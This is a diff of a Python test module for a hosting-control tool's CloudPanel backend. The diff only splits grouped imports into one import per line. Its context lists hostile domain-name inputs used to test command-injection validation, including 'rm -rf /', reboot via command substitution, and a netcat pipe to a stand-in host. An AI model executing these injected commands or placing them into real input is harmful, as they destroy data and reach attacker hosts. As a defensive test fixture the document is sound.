@@ -6,14 +6,20 @@ from __future__ import annotations
 import shlex
 
 import pytest
-from hypothesis import HealthCheck, event, given, settings
+from hypothesis import HealthCheck
+from hypothesis import event
+from hypothesis import given
+from hypothesis import settings
 from hypothesis import strategies as st
 
-from hostdeck.backends.cloudpanel import commands, validate
+from hostdeck.backends.cloudpanel import commands
+from hostdeck.backends.cloudpanel import validate
 from hostdeck.backends.cloudpanel.commands import mask_text
-from hostdeck.backends.cloudpanel.spec import SiteSpec, new_password
+from hostdeck.backends.cloudpanel.spec import SiteSpec
+from hostdeck.backends.cloudpanel.spec import new_password
 from hostdeck.backends.errors import ValidationError
-from hostdeck.backends.sim.cloudpanel import UnsafeLine, split_line
+from hostdeck.backends.sim.cloudpanel import UnsafeLine
+from hostdeck.backends.sim.cloudpanel import split_line
 
 HOSTILE = [
     "a.com; rm -rf /", "a.com && reboot", "a.com | nc evil 1", "$(reboot).com", "`reboot`.com", "a.com\nreboot",
